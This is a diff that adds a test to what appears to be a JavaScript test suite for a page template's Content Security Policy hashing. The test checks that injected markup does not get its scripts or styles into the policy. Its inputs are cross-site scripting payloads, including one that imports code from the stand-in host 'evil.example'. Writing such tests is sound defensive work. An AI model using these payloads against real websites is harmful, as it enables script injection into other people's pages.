@@ -37,6 +37,21 @@ test('embedded data cannot end its element, and dollar signs stay what they are'
   expect(page.scriptHashes).toEqual([])
 })
 
+test('only our own scripts and styles are in the policy: markup that got into a screen does not run', () => {
+  for (const injected of [
+    '<script>alert(document.domain)</script>',
+    '<SCRIPT>alert(1)</SCRIPT>',
+    '<script type="module">import("//evil.example")</script>',
+    '<svg><script>alert(2)</script></svg>',
+    '<style>body{display:none}</style>',
+  ]) {
+    const page = fillTemplate(template, files, { head: '', html: injected, scripts: ['ours()'], data: {}, look: '' })
+    expect(page.html).toContain('<script>ours()</script>')
+    expect(page.scriptHashes).toEqual([sha('ours()')])
+    expect(page.styleHashes).toEqual([sha('body{color:#000}')])
+  }
+})
+
 test('inline scripts and style attributes are hashed as the browser reads them', () => {
   const html =
     '<script>run()</script><script type="module" src="/x.js"></script><p style="font-family:&quot;Outfit&quot;">x</p>'
